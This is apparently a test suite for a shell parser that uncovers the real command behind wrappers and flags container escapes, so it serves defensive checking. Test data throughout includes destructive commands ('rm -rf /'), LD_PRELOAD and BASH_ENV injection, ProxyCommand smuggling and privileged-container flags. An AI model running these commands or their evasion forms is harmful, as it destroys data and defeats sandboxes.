    expect(written('docker run -v /etc:/e:ro img ls')).toEqual([]);
    expect(written('podman run -v /etc:/e:O img ls')).toEqual([]);
    expect(written('docker run -v ~:/h img ls')).toEqual(['~/**']);
    expect(written('docker run -v "$HOME/.ssh:/k" img ls')).toEqual(['~/.ssh/**']);
    expect(written('docker run -v "$PWD:/app" -v "$(pwd)/out:/out" img ls')).toEqual([
      './**',
      './out/**',
    ]);
    expect(written('docker run -v "$DIR:/d" img ls')).toEqual(['$[$DIR]/**']);
    expect(written('docker run -v data:/var/lib/data -v /cache img ls')).toEqual([]);
    expect(written('docker run --volumes-from data img ls')).toEqual(['$[data]/**']);
    expect(written('docker run -v ./src:/src img ls')).toEqual(['./src/**']);
    expect(written('docker create --mount type=bind,source=/root,target=/r img')).toEqual([
      '/root/**',
    ]);
    expect(written('docker run --mount type=bind,src=/root,dst=/r,readonly img')).toEqual([]);
    expect(written('docker run --mount type=bind,src=/root,dst=/r,readonly=false img')).toEqual([
      '/root/**',
    ]);
    expect(written('docker run --mount src=v,dst=/v img')).toEqual([]);
    expect(
      written('docker run --mount type=volume,dst=/v,volume-opt=o=bind,volume-opt=device=/etc img'),
    ).toEqual(['/etc/**']);
    // docker reads the value as one CSV record: a field quoted whole, only the first line.
    expect(written(`docker run --mount 'type=bind,"src=/a,b",dst=/x' img`)).toEqual(['/a,b/**']);
    expect(written(`docker run --mount 'type=bind,src=/etc,dst=/e,"readonly"' img`)).toEqual([]);
    expect(written(`docker run --mount 'type=bind,source="/etc",target=/e' img`)).toEqual([
      '$[type=bind,source="/etc",target=/e]/**',
    ]);
    expect(written(`docker run --mount $'type=bind,src=/etc,dst=/e\\n,readonly' img`)).toEqual([
      '/etc/**',
    ]);
    expect(written('docker run --mount type=bind,src=/etc,dst=/e,readonly=t img')).toEqual([]);
    expect(
      written('docker run --mount type=bind,src=/etc,dst=/e,ro,bind-recursive=writable img'),
    ).toEqual(['/etc/**']);
    // Go's pflag reads `-v=VALUE` as `-v VALUE`, in a cluster too.
    expect(written('docker run -v=/etc:/e img')).toEqual(['/etc/**']);
    expect(written('docker run -tv=/etc:/e img ls')).toEqual(['/etc/**']);
    // The mount is the container's, not the command's inside it.
    const result = parseShell('docker run -v /etc:/e img touch /e/x');
    expect(result.ok && result.commands.map((command) => command.writesTo.length)).toEqual([1, 0]);
  });

  it('reads a tilde prefix as bash does: ~root is /root, ~+ the working directory, ~bob run-time', () => {
    expect(written('echo x > ~root/.bashrc')).toEqual(['/root/.bashrc']);
    expect(written('echo x > ~+/out')).toEqual(['./out']);
    expect(written('echo x > ~bob/.bashrc')).toEqual(['$[~bob/.bashrc]']);
    expect(written('echo x > ~-/x')).toEqual(['$[~-/x]']);
    expect(written('echo x > ~/.bashrc')).toEqual(['~/.bashrc']);
    // Quoted, it is no tilde prefix; after the first `/` it is text.
    expect(written(`echo x > '~root'/x`)).toEqual(['~root/x']);
    expect(written('echo x > "~root/x"')).toEqual(['~root/x']);
    expect(written('echo x > a/~root')).toEqual(['a/~root']);
    // bash ends the prefix at `:` too.
    expect(written('docker run -v ~root:/r img')).toEqual(['/root/**']);
    expect(commands('~root/bin/tool -x')).toEqual(['tool -x']);
  });

  it('marks containers with the power of the host', () => {
    const reaches = (line: string) => {
      const result = parseShell(line);
      if (!result.ok) throw new Error(`did not parse: ${result.reason}`);
      return result.commands.some((command) => command.hostAccess);
    };
    for (const line of [
      'docker run --privileged img',
      'docker container run --privileged img ls',
      'podman create --privileged img',
      'docker run --pid=host img nsenter -t 1 -m sh',
      'docker run --pid host img',
      'docker run --userns=host img',
      'docker run --cap-add SYS_ADMIN img',
      'docker run --cap-add=cap_sys_admin img',
      'docker run --cap-add SYS_PTRACE,DAC_READ_SEARCH img',
      'docker run --cap-add ALL img',
      'docker run --cap-add "$CAP" img',
      'docker run --device /dev/sda img',
      'docker run --device=/dev/mem:/dev/mem img',
      `docker run --device-cgroup-rule 'b *:* rwm' img`,
      'docker run --security-opt apparmor=unconfined img',
      'docker run --security-opt seccomp:unconfined img',
      'docker run --security-opt label=disable img',
      'docker run --security-opt systempaths=unconfined img',
      'docker run -v /var/run/docker.sock:/var/run/docker.sock img',
      'docker run -v /run:/r:ro img',
      'docker run -v /:/host:ro img',
      'docker run -v /proc:/p img',
      'docker run -v /sys/fs/cgroup:/c img',
      'docker run -v "$SOCK:/s:ro" img',
      'docker run --use-api-socket img',
      'docker run --privileged=true img',
      'docker run --device /dev/dri/../sda img',
      'docker run --security-opt label=type:unconfined_t img',
      'docker run --security-opt writable-cgroups=true img',
      'docker run -v=/:/h img',
      'docker exec --privileged c sh',
      'kubectl debug node/worker-1 -it --image=busybox',
      'kubectl debug -it nodes/worker-1 --image=busybox -- chroot /host',
      'kubectl debug pod/web -it --profile=sysadmin --image=busybox',
      'echo ok && sudo -u me docker run --privileged img',
    ]) {
      expect(reaches(line), line).toBe(true);
    }
    for (const line of [
      'docker run --rm -it img bash',
      'docker run --rm -v "$PWD:/app" -w /app node:20 npm test',
      'docker run -v /etc/ssl/certs:/certs:ro img',
      'docker run -v /proc:/p:ro img',
      'docker run --cap-add NET_ADMIN --cap-add=CAP_NET_RAW --cap-add sys_ptrace img',
      'docker run --cap-drop ALL img',
      'docker run --device /dev/fuse --device=/dev/net/tun img',
      'docker run --device /dev/dri/renderD128 img',
      'docker run --security-opt no-new-privileges img',
      'docker run --pid=container:web img',
      'docker run --privileged=false img',
      'docker exec --privileged=0 c sh',
      'docker run --network host img',
      'docker exec -it c sh',
      'docker ps -a',
      'kubectl debug pod/web -it --image=busybox',
      'kubectl exec web -- ls /',
      'echo docker run --privileged img',
    ]) {
      expect(reaches(line), line).toBe(false);
    }
  });

  it('reads docker exec -e setting BASH_ENV or LD_ as unknown, as docker run -e', () => {
    expect(commands(`docker exec -e LD_PRELOAD=/tmp/x.so c ls`).at(-1)).toBe(
      '?-e LD_PRELOAD=/tmp/x.so',
    );
    expect(commands(`docker exec -e A=1 c rm -rf /`).at(-1)).toBe('rm -rf /');
    // Go's pflag reads `-e=VALUE` as `-e VALUE`.
    expect(commands(`docker run -e=LD_PRELOAD=/tmp/x.so img ls`).at(-1)).toBe(
      '?-e LD_PRELOAD=/tmp/x.so',
    );
  });

  it("reads Homebrew's g-prefixed GNU tools as the GNU ones", () => {
    expect(commands('gtimeout 5 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('genv -i gnice -n 5 gnohup rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('ls | gxargs rm').at(-1)).toBe('rm $[(arguments from input)]');
    expect(commands('gfind . -exec rm -rf / ;').at(-1)).toBe('rm -rf /');
  });

  it('reads watch -x as running its words, not a script of them', () => {
    expect(commands(`watch -x sh -c 'exec rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`watch --exec -n 5 rm -rf /`).at(-1)).toBe('rm -rf /');
    expect(commands(`watch -n 5 'ls | wc -l'`).at(-1)).toBe('wc -l');
  });

  it("reads find's {} in a program or a script as the file's name, known only at run time", () => {
    expect(commands('find /usr/bin -name rm -exec {} -rf / ;').at(-1)).toBe('?{} -rf /');
    expect(commands(`find . -exec sh -c 'echo {}' ';'`).at(-1)).toBe('?echo {}');
    expect(commands(`find . -name '*.sh' -exec sh -c {} ';'`).at(-1)).toBe('?{}');
    // A lone {} argument is a path that starts with the starting point.
    expect(commands('find . -name "*.tmp" -exec rm {} ;').at(-1)).toBe('rm {}');
    expect(commands('find . -exec rm {} +').at(-1)).toBe('rm {}');
  });

  it('reads the words BSD xargs -J puts the input in place of, the program too, as run-time values', () => {
    expect(commands('xargs -J % % -rf /').at(-1)).toBe('?% -rf / $[(arguments from input)]');
    expect(commands('xargs -J % cp % /backup').at(-1)).toBe(
      'cp $[%] /backup $[(arguments from input)]',
    );
  });

  it('reads a systemd-run unit property that can run or change a command as unknown', () => {
    // Each Exec line is a command of its own, run before or after the one given.
    expect(commands(`systemd-run --user -p ExecStartPre='/bin/rm -rf /home' true`).at(-1)).toBe(
      '?-p ExecStartPre=/bin/rm -rf /home',
    );
    expect(commands(`systemd-run -p 'ExecStopPost=/bin/rm -rf /' sleep 1`).at(-1)).toBe(
      '?-p ExecStopPost=/bin/rm -rf /',
    );
    expect(commands('systemd-run --property=ExecCondition=/x true').at(-1)).toBe(
      '?--property ExecCondition=/x',
    );
    expect(commands('systemd-run --socket-property=ExecStartPre=/x -p Nice=1 true').at(-1)).toBe(
      '?--socket-property ExecStartPre=/x',
    );
    // Environment can preload a library; BindPaths can put another program under a name.
    expect(commands('systemd-run -p Environment=LD_PRELOAD=/tmp/x.so ls').at(-1)).toBe(
      '?-p Environment=LD_PRELOAD=/tmp/x.so',
    );
    expect(commands('systemd-run -p BindPaths=/tmp/x:/usr/bin/ls ls').at(-1)).toBe(
      '?-p BindPaths=/tmp/x:/usr/bin/ls',
    );
    // Written another way than systemd's names, it is not known to be one of the safe ones.
    expect(commands('systemd-run -p nice=5 ls').at(-1)).toBe('?-p nice=5');
    // Those that only limit, time or describe it leave the command read.
    expect(
      commands(
        'systemd-run --user -p CPUQuota=20% -p MemoryMax=1G --property=RuntimeMaxSec=60 -p Nice=5 rm -rf /',
      ).at(-1),
    ).toBe('rm -rf /');
    expect(commands('systemd-run --timer-property=AccuracySec=1s --on-active=5 rm x').at(-1)).toBe(
      'rm x',
    );
  });

  it('sees through numactl, cgexec, schedtool -e, nsenter, ltrace, systemd-inhibit and xvfb-run', () => {
    expect(commands('numactl -N 0 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('numactl --membind=0 -l -- rm x').at(-1)).toBe('rm x');
    expect(commands('numactl --cpunod=0 rm x').at(-1)).toBe('rm x');
    expect(commands('cgexec -g cpu:/x --sticky rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('schedtool -B -e rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('schedtool -e -n5 rm -rf /').at(-1)).toBe('rm -rf /');
    // Without -e the words are processes.
    expect(commands('schedtool -n 5 1234')).toEqual(['schedtool -n 5 1234']);
    expect(commands('nsenter -t 1 -m -u -n rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('nsenter -n/proc/1/ns/net rm x').at(-1)).toBe('rm x');
    // Detached, -n takes no value: the path is the command.
    expect(commands('nsenter -n /proc/1/ns/net rm x').at(-1)).toBe('net rm x');
    // -W takes the next word in util-linux 2.38, and none later.
    expect(commands('nsenter -t 1 -W /tmp rm -rf /').at(-1)).toBe('?-W');
    expect(commands('nsenter -t 1 -m').at(-1)).toBe('?$SHELL');
    expect(commands('ltrace -f -o /tmp/l rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('systemd-inhibit --what=sleep --why x -- rm y').at(-1)).toBe('rm y');
    expect(commands(`xvfb-run -a -s '-screen 0 1x1x8' rm -rf /`).at(-1)).toBe('rm -rf /');
    expect(commands(`xvfb-run eval 'rm -rf /'`).at(-1)).toBe('rm -rf /');
  });

  it('reads the values fakeroot evaluates and the output commands of strace as scripts', () => {
    expect(commands('fakeroot -u -- make install').at(-1)).toBe('make install');
    expect(commands(`fakeroot -f 'rm -rf /;faked' true`)).toEqual(
      expect.arrayContaining(['rm -rf /', 'faked', 'true']),
    );
    expect(commands(`fakeroot -l '$(rm -rf /)' true`)).toContain('rm -rf /');
    expect(commands('fakeroot').at(-1)).toBe('?$SHELL');
    expect(commands('strace -f rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`strace -o '|rm -rf /' true`)).toEqual(
      expect.arrayContaining(['rm -rf /', 'true']),
    );
    expect(commands(`strace --output='!sh' true`)).toContain('sh');
    expect(commands('strace -o /tmp/trace true').slice(1)).toEqual(['true']);
    expect(commands('strace -E LD_PRELOAD=/tmp/x.so true').at(-1)).toBe('?-E LD_PRELOAD=/tmp/x.so');
  });

  it('sees through valgrind and firejail, whose options are each one word', () => {
    expect(commands('valgrind rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('valgrind --leak-check=full -q -- rm x').at(-1)).toBe('rm x');
    expect(commands('valgrind --tool=../../../tmp/x true').at(-1)).toBe('?--tool ../../../tmp/x');
    expect(commands('firejail --private --net=none rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('firejail --join=web rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('firejail --env=LD_PRELOAD=/tmp/x.so true').at(-1)).toBe(
      '?--env LD_PRELOAD=/tmp/x.so',
    );
    expect(commands('firejail --noprofile').at(-1)).toBe('?$SHELL');
    expect(commands('firejail --list')).toEqual(['firejail --list']);
  });

  it('reads script -c as a script, and script without it as an unknown shell', () => {
    expect(commands(`script -qc 'rm -rf /' /dev/null`).at(-1)).toBe('rm -rf /');
    // script permutes: options after the file count.
    expect(commands(`script /dev/null -c 'rm x'`).at(-1)).toBe('rm x');
    expect(commands('script -q log').at(-1)).toBe('?$SHELL');
  });

  it('reads capsh -- as running bash, with --shell= as the program', () => {
    expect(commands(`capsh -- -c 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands('capsh --drop=cap_net_raw -- script.sh').at(-1)).toBe('bash script.sh');
    expect(commands('capsh --shell=/bin/rm -- -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('capsh == --shell=/bin/rm -- -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('capsh --print')).toEqual(['capsh --print']);
  });

  it('sees through setarch and the links named after architectures', () => {
    expect(commands('setarch x86_64 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('setarch x86_64 -R rm -rf /').at(-1)).toBe('rm -rf /');
    // Without an ARCH first, a later word is the command.
    expect(commands('setarch -R x86_64 rm').slice(1)).toEqual(['x86_64 rm', 'rm']);
    expect(commands('linux32 rm x').at(-1)).toBe('rm x');
    expect(commands('i386 -3 make').at(-1)).toBe('make');
    expect(commands('setarch x86_64').at(-1)).toBe('?$SHELL');
  });

  it('sees through eatmydata, ssh-agent, trickle, chpst and daemonize, but not code they load', () => {
    expect(commands('eatmydata -- rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('ssh-agent -t 60 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('trickle -s -d 100 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('trickle -P /tmp/x.so true').at(-1)).toBe('?-P /tmp/x.so');
    expect(commands('chpst -u nobody rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('chpst -e /tmp/env true').at(-1)).toBe('?-e /tmp/env');
    expect(commands('daemonize -c /tmp -o log -- /bin/rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('daemonize -E LD_PRELOAD=/tmp/x.so /bin/true').at(-1)).toBe(
      '?-E LD_PRELOAD=/tmp/x.so',
    );
  });

  it('reads dbus-launch, dbus-run-session, torsocks, faketime and unbuffer word by word', () => {
    expect(commands('dbus-launch --exit-with-session -- rm x').at(-1)).toBe('rm x');
    expect(commands('dbus-launch --config-file /tmp/c.conf rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('dbus-run-session --config-file=/tmp/c rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('dbus-run-session --dbus-daemon=rm true').at(-1)).toBe('?--dbus-daemon rm');
    expect(commands('torsocks -i -u a -p b rm -rf /').at(-1)).toBe('rm -rf /');
    // faketime takes `--` as the time.
    expect(commands('faketime -f -- rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`faketime '2020-01-01' rm -rf /`).at(-1)).toBe('rm -rf /');
    expect(commands('unbuffer -ignore HUP rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('unbuffer -p grep x').at(-1)).toBe('grep x');
    expect(commands('unbuffer -ign HUP rm -rf /').at(-1)).toBe('?-ign');
  });

  it('finds the program of proxychains as it does, and reads cpulimit only where it counts right', () => {
    expect(commands('proxychains4 -q -f c.conf rm x').at(-1)).toBe('rm x');
    expect(commands('proxychains4 -fx /etc/proxychains4.conf rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('proxychains rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('cpulimit -l 50 -f -- rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('cpulimit -l 50 make').at(-1)).toBe('make');
    // getopt moves -rf before the program, and cpulimit's count then runs another word.
    expect(commands('cpulimit -l 50 -f rm -rf /').at(-1)).toBe('?-rf');
    expect(commands('cpulimit -l50 -f true rm x').at(-1)).toBe('?-l50');
  });

  it('reads ip netns exec and ip vrf exec, with their prefixes, and ip -batch as unknown', () => {
    expect(commands('ip netns exec ns1 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('ip -n x netns exec ns1 rm x').at(-1)).toBe('rm x');
    expect(commands('ip -all netns exec rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`ip net e ns1 bash -c 'rm x'`).at(-1)).toBe('rm x');
    expect(commands('ip vrf exec red rm x').at(-1)).toBe('rm x');
    expect(commands('ip -b cmds.txt').at(-1)).toBe('?-b');
    expect(commands('ip netns list')).toEqual(['ip netns list']);
    // `ip n` is neighbor, not netns.
    expect(commands('ip n exec x rm')).toEqual(['ip n exec x rm']);
  });

  it('reads the command after kubectl exec --, and kubectl exec without -- as unknown', () => {
    expect(commands('kubectl exec pod -- rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('kubectl -n ns exec -it pod -c app -- rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('kubectl exec pod a b -- rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`kubectl exec pod -- sh -c 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands('kubectl exec pod ls /').at(-1)).toBe('?kubectl exec …');
    expect(commands('kubectl debug node/n -it --image=busybox -- rm -rf /host').at(-1)).toBe(
      'rm -rf /host',
    );
    expect(commands('kubectl debug mypod --image=busybox')).toEqual([
      'kubectl debug mypod --image=busybox',
    ]);
    expect(commands('kubectl get pods')).toEqual(['kubectl get pods']);
  });

  it('reads docker exec, run and create: options, the container or image, then its command', () => {
    expect(commands('docker exec -it -u root c rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('docker -H tcp://h -D container exec c rm -rf /').at(-1)).toBe('rm -rf /');
    // After the container, `--` is the program docker asks for (and does not find).
    expect(commands('docker exec c -- rm -rf /').at(-1)).toBe('-- rm -rf /');
    expect(commands('docker run --rm -v /:/host img rm -rf /host').at(-1)).toBe('rm -rf /host');
    expect(commands('docker run -h x img rm').at(-1)).toBe('rm');
    expect(commands('docker run --entrypoint rm img -rf /').at(-1)).toBe('?--entrypoint rm');
    expect(commands(`docker run --health-cmd 'rm -rf /' img`)).toContain('rm -rf /');
    expect(commands('podman exec c rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('docker ps -a')).toEqual(['docker ps -a']);
  });

  it('reads uv run, uvx, poetry run, pipenv run and bundle exec', () => {
    expect(commands('uv run --with x -p 3.12 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('uv --directory d run -- rm -rf /').at(-1)).toBe('rm -rf /');
    // From the command on, every word is the command's.
    expect(commands('uv run -q rm -q').at(-1)).toBe('rm -q');
    expect(commands('uv tool run --from cowsay rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('uvx ruff check').at(-1)).toBe('ruff check');
    expect(commands('uv pip install x')).toEqual(['uv pip install x']);
    expect(commands('poetry run rm -rf /').at(-1)).toBe('rm -rf /');
    // poetry drops the first `--` wherever it is.
    expect(commands('poetry run rm -- -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('pipenv --python 3 run rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('bundle exec --gemfile=G rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('bundle e rm -rf /').at(-1)).toBe('rm -rf /');
    // One word is run by sh -c.
    expect(commands(`bundle exec 'echo a; rm -rf /'`).at(-1)).toBe('rm -rf /');
    // bundler then runs `install`: reading exec's command over-reports, and `bundle -v` is fine.
    expect(commands('bundle -V exec rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('bundle --version')).toEqual(['bundle --version']);
    expect(commands('podman --remote exec c rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('podman --version')).toEqual(['podman --version']);
  });

  it("takes a quoted expansion as an option's value, but not where it is code or input", () => {
    // Quoted, it is one word: the value.
    expect(commands('nice -n "$X" rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('docker run --rm -v "$PWD:/app" node:20 npm test').at(-1)).toBe('npm test');
    expect(commands('kubectl -n "$NS" exec "web-0" -- ls /').at(-1)).toBe('ls /');
    expect(commands('timeout --signal="$SIG" 5 rm -rf /').at(-1)).toBe('rm -rf /');
    // "$@" and "${a[@]}" are several words, quoted or not.
    expect(commands('nice -n "$@"').at(-1)).toBe('?$@');
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
    expect(commands('timeout -s "${a[@]}"').at(-1)).toBe('?${a[@]}');
    // Unquoted, it may be several words; in an option's name, anything.
    expect(commands('docker run -v $PWD:/app img ls').at(-1)).toBe('?$PWD:/app');
    expect(commands('timeout "--$OPT=1" 5 ls').at(-1)).toBe('?--$OPT=1');
    expect(commands('nice -n"$X" ls').at(-1)).toBe('?-n$X');
    // Where the value is a script, a program, a library or input, it is unknown.
    expect(commands(`ssh -o "$OPT" host ls`).at(-1)).toBe('?-o $OPT');
    expect(commands(`ssh host -o "$OPT" ls`).at(-1)).toBe('?-o $OPT');
    expect(commands(`xargs -I "$R" sh -c "$R"`).at(-1)).toBe('?-I $R');
    expect(commands(`su -s "$SH" -c 'ls'`).at(-1)).toBe('?-s $SH');
    expect(commands(`strace -E "$V" true`).at(-1)).toBe('?-E $V');
    expect(commands(`strace -o "$OUT" true`).at(-1)).toBe('?-o $OUT');
    expect(commands(`valgrind --tool="$T" true`).at(-1)).toBe('?--tool=$T');
    expect(commands(`fakeroot -f "$F" true`).at(-1)).toBe('?-f $F');
    expect(commands(`docker run --entrypoint "$E" img`).at(-1)).toBe('?--entrypoint $E');
    expect(commands(`su -c "$X"`).at(-1)).toBe('?$X');
  });

  it('closes what a review found in the new wrappers (each checked against the real program)', () => {
    // ip reads a bare `-` as -loops, which takes a value; an option it does not know is unknown.
    expect(commands('ip - 1 netns exec x rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('ip -zz netns exec x rm').at(-1)).toBe('?-zz');
    // OpenSSH removes double quotes from a keyword; a keyword it would not read is unknown.
    expect(commands(`ssh -o '"ProxyCommand" rm -rf /' h`)).toContain('rm -rf /');
    expect(commands(`ssh -o 'Proxy"Command" rm -rf /' h`)).toContain('rm -rf /');
    expect(commands(`ssh -o '"proxycommand"=rm -rf /' h`)).toContain('rm -rf /');
    expect(commands(`ssh -o "Proxy'Command' x" h ls`).at(-1)).toBe(`?-o Proxy'Command' x`);
    // Shells that read the pipe.
    expect(commands(`echo 'rm -rf /' | script -q -- /dev/null`).at(-1)).toBe('?$SHELL');
    expect(commands(`echo 'rm -rf /' | torsocks --shell ls`).at(-1)).toBe('?$SHELL');
    expect(commands(`echo 'rm -rf /' | chroot /`).at(-1)).toBe('?$SHELL');
    expect(commands(`echo 'rm -rf /' | ssh host`).at(-1)).toBe('?$SHELL');
    expect(commands('ssh -N -L 8080:localhost:80 host')).toEqual([
      'ssh -N -L 8080:localhost:80 host',
    ]);
    expect(commands(`echo 'rm -rf /host' | docker run -i -v /:/host ubuntu`).at(-1)).toBe(
      '?$SHELL',
    );
    expect(commands(`echo x | kubectl debug -i node/n --image=busybox`).at(-1)).toBe('?$SHELL');
    // dbus-launch reads an option word as an option, even where a value was due.
    expect(
      commands('dbus-launch --config-file --autolaunch 0123456789abcdef rm -rf /').at(-1),
    ).toBe('rm -rf /');
    // BASH_ENV and ENV are read and expanded by the shell the command starts.
    expect(commands(`strace -E 'BASH_ENV=$(rm -rf /)' bash -c true`).at(-1)).toBe(
      '?-E BASH_ENV=$(rm -rf /)',
    );
    expect(commands(`docker run -e 'BASH_ENV=$(rm)' img bash -c true`).at(-1)).toBe(
      '?-e BASH_ENV=$(rm)',
    );
    expect(commands(`systemd-run -E 'ENV=$(rm)' sh -i`).at(-1)).toBe('?-E ENV=$(rm)');
    // uv tool uvx is uv tool run; `uv run -` is Python reading the pipe.
    expect(commands('uv tool uvx --from cowsay rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('curl -s x | uv run -').at(-1)).toBe('python');
    // proxychains 3 runs `exec "$@"`: under bash, `exec -- rm` runs rm.
    expect(commands('proxychains3 -- rm -rf /').at(-1)).toBe('rm -rf /');
  });

  it('sees through logsave, systemd-cat, toybox, gosu, su-exec, tini, dumb-init, chronic and daemontools', () => {
    expect(commands('logsave -a /dev/null rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('systemd-cat -t x rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('toybox rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('gosu nobody rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('su-exec nobody rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('tini -s -- rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('tini --version')).toEqual(['tini --version']);
    expect(commands('dumb-init -c rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('chronic -e rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('setuidgid nobody rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('softlimit -m 1000000 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('setlock -n /tmp/l rm -rf /').at(-1)).toBe('rm -rf /');
  });

  it('treats a wrapper option only known at run time as an unknown command', () => {
    expect(commands('sudo $OPTS ls')).toEqual(['sudo $[$OPTS] ls', '?$OPTS']);
  });

  it('carries the wrapper redirections and pipe to the command it runs', () => {
    const rm = only('ls | sudo rm x > /etc/y', 'rm');
    expect([rm.piped, rm.writesTo.map((word) => word.text)]).toEqual([true, ['/etc/y']]);
  });
});

describe('parseShell: redirections', () => {
  it('collects output targets of > >> >| &> &>> <> N> and >&file', () => {
    const echo = only('echo x > a >> b >| c &> d &>> e <> f 2> g >& h', 'echo');
    expect(echo.writesTo.map((word) => word.text)).toEqual([
      'a',
      'b',
      'c',
      'd',
      'e',
      'f',
      'g',
      'h',
    ]);
  });

  it('ignores descriptor duplication and input redirections', () => {
    expect(only('cmd 2>&1 >&2 <&0 3>&- < in', 'cmd').writesTo).toEqual([]);
  });

  it('reads redirections before the program', () => {
    expect(commands('> out 2>&1 rm x')).toEqual(['rm x']);
  });

  it('records a redirection without a command as a command with an empty program', () => {
    const result = parseShell('> /etc/passwd');
    expect(
      result.ok && result.commands.map((command) => [command.program, command.writesTo]),
    ).toEqual([['', [{ text: '/etc/passwd', dynamic: false }]]]);
  });

  it('gives a compound command redirections to every command in it', () => {
    const result = parseShell('{ a; b; } >> ~/.bashrc');
    expect(result.ok && result.commands.map((command) => command.writesTo.length)).toEqual([1, 1]);
  });

  it('marks a redirection target only known at run time', () => {
    expect(only('echo x > "$OUT"', 'echo').writesTo).toEqual([{ text: '$OUT', dynamic: true }]);
  });
});

describe('parseShell: what it refuses', () => {
  it('refuses unterminated quotes and substitutions', () => {
    expect(failure(`echo 'a`)).toBe('unterminated single quote');
    expect(failure('echo "a')).toBe('unterminated double quote');
    expect(failure('echo $(a')).toMatch(/unterminated/);
    expect(failure('echo `a')).toBe('unterminated back-tick');
    expect(failure('echo ${a')).toMatch(/unterminated/);
    expect(failure(`echo $'a`)).toMatch(/unterminated/);
  });

  it('refuses syntax errors the shell refuses too', () => {
    expect(failure('fi')).toMatch(/unexpected/);
    expect(failure('a )')).toMatch(/unexpected/);
    expect(failure('if a; then b')).toMatch(/unterminated/);
    expect(failure('{ a; ')).toMatch(/unterminated/);
    expect(failure('echo a (b)')).toMatch(/unexpected/);
    expect(failure('a; ;; b')).toMatch(/outside a case/);
  });

  it('refuses a line longer than 64 KiB', () => {
    expect(failure('a'.repeat(MAX_SHELL_LENGTH + 1))).toMatch(/longer than/);
    expect(parseShell('a'.repeat(MAX_SHELL_LENGTH)).ok).toBe(true);
  });

  it(`refuses nesting deeper than ${MAX_SHELL_DEPTH} levels`, () => {
    expect(failure(`${'('.repeat(40)}a${')'.repeat(40)}`)).toMatch(/deeper/);
    expect(failure(`${'$('.repeat(40)}a${')'.repeat(40)}`)).toMatch(/deeper/);
    expect(failure(`${'sudo '.repeat(40)}rm`)).toMatch(/deeper/);
    expect(parseShell(`${'('.repeat(10)}a${')'.repeat(10)}`).ok).toBe(true);
  });

  it('refuses scripts nested in scripts beyond the depth limit', () => {
    let script = 'rm -rf /';
    for (let i = 0; i < 40; i++) script = `bash <<E${i}\n${script}\nE${i}`;
    expect(failure(script)).toMatch(/deeper/);
  });
});

describe('parseShell: properties', () => {
  const RUNS = { seed: 20240611, numRuns: 3000 };
  const pieces = [
    ' ',
    '\t',
    '\n',
    ';',
    '&',
    '|',
    '(',
    ')',
    '<',
    '>',
    '{',
    '}',
    '[',
    ']',
    '!',
    '#',
    '$',
    '`',
    '"',
    "'",
    '\\',
    '=',
    '*',
    '?',
    '@',
    '+',
    '-',
    ',',
    '.',
    '~',
    '/',
    'a',
    'rm',
    'sh',
    'bash',
    'sudo',
    'env',
    'xargs',
    'find',
    '-exec',
    'eval',
    '-c',
    'if',
    'then',
    'fi',
    'do',
    'done',
    'case',
    'esac',
    'in',
    'for',
    'while',
    'function',
    '[[',
    ']]',
    '((',
    '))',
    '$(',
    '${',
    '<(',
    '>(',
    '$((',
    '<<',
    '<<-',
    '<<<',
    'EOF',
    "$'",
    '$"',
    ';;',
    '&&',
    '||',
    '|&',
    '2>&1',
    '&>',
  ];
  const shellish = fc
    .array(fc.constantFrom(...pieces), { maxLength: 60 })
    .map((parts) => parts.join(''));

